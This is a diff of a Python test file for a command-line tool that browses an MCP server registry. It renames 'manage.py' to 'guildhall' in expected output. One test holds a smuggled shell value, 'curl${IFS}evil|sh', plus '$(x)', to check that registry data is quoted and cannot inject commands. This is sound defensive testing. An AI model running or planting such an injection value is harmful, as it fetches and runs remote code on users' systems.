@@ -40,7 +40,7 @@ def test_a_search_shows_each_way_and_its_values(server: Registry) -> None:
         "--set WEATHER_API_KEY=SECRET  required: Your key.",
         "--set CITY='Amsterdam Noord'  optional",
         "containers yet",
-        "manage.py add_member io.github.anna/weather-mcp@1.2.0",
+        "guildhall add_member io.github.anna/weather-mcp@1.2.0",
     ):
         assert part in text
 
@@ -50,7 +50,7 @@ def test_a_long_list_says_how_to_go_on(server: Registry) -> None:
     text = run("registry")
     assert "clock" in text
     assert "weather" not in text
-    assert "manage.py registry --cursor com.example/clock" in text
+    assert "guildhall registry --cursor com.example/clock" in text
     assert "weather" in run("registry", "--cursor", "com.example/clock")
 
 
@@ -77,7 +77,7 @@ def test_nothing_of_the_registry_can_be_a_command_of_its_own(server: Registry) -
     assert "add_member 'com.example/clock@1;curl${IFS}evil|sh'" in run("registry")
     answer = {"servers": [{"server": clock}], "metadata": {"nextCursor": "$(x)"}}
     server.answers["/v0.1/servers"] = (200, json.dumps(answer).encode())
-    assert "manage.py registry 'a b' --cursor '$(x)'" in run("registry", "a b")
+    assert "guildhall registry 'a b' --cursor '$(x)'" in run("registry", "a b")
 
 
 def test_a_server_is_proposed_with_values_of_the_command_line(server: Registry) -> None:
